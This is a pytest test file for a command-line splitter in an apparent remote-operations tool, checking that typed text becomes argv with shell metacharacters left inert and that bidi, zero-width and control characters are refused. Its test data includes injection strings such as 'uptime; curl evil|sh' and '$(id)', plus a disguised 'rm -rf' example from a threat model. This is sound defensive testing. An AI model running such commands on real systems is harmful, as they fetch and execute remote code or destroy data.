"""Typed text → argv, like a shell splits it, but nothing is ever given to a shell."""

from __future__ import annotations

import pytest

from teleops.commands.command_line import MAX_COMMAND_CHARS, CommandLineError, split_command


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("uptime", ["uptime"]),
        ("  df  -h   / ", ["df", "-h", "/"]),
        ("sh -c 'sleep 300 & sleep 300'", ["sh", "-c", "sleep 300 & sleep 300"]),
        ('echo "a b" c\\ d', ["echo", "a b", "c d"]),
        ("uptime; curl evil|sh", ["uptime;", "curl", "evil|sh"]),  # metacharacters stay inert text
        ("echo $(id) `id`", ["echo", "$(id)", "`id`"]),
        ("echo # not a comment", ["echo", "#", "not", "a", "comment"]),
    ],
)
def test_commands_split_into_argv_without_a_shell(text: str, argv: list[str]) -> None:
    assert split_command(text) == argv


@pytest.mark.parametrize("text", ["echo 'oops", 'echo "oops', "echo 'a' \"b"])
def test_unbalanced_quotes_are_a_clear_error(text: str) -> None:
    with pytest.raises(CommandLineError, match="unbalanced quote"):
        split_command(text)


def test_a_trailing_backslash_is_an_error_that_says_how_to_fix_it() -> None:
    with pytest.raises(CommandLineError, match="escape"):
        split_command("echo \\")


@pytest.mark.parametrize("text", ["", "   ", "\n\t", "''"])
def test_empty_commands_are_refused(text: str) -> None:
    if text == "''":  # one empty argument is still an argv: the agent reports "not found"
        assert split_command(text) == [""]
        return
    with pytest.raises(CommandLineError, match="empty"):
        split_command(text)


def test_nul_bytes_and_over_long_lines_are_refused() -> None:
    with pytest.raises(CommandLineError, match="NUL"):
        split_command("echo a\x00b")
    with pytest.raises(CommandLineError, match="limit"):
        split_command("x" * (MAX_COMMAND_CHARS + 1))


@pytest.mark.parametrize(
    "char",
    ["\u202e", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060",
     "\ufeff", "\u00ad", "\x1b", "\x07", "\x85"],
)  # fmt: skip
def test_bidi_zero_width_and_control_characters_are_refused_naming_them(char: str) -> None:
    """docs/threat-model.md T25: `rm -rf /tmp/x\u202e/ etc` shows as another command in chat and in an approval request."""
    with pytest.raises(CommandLineError, match=f"U\\+{ord(char):04X}") as refused:
        split_command(f"echo safe{char} text")
    assert "at character 10" in str(refused.value)
    assert "retype it without it" in str(refused.value)


def test_visible_unicode_tabs_and_newlines_stay_allowed() -> None:
    assert split_command("echo café\tnaïve\n日本") == ["echo", "café", "naïve", "日本"]
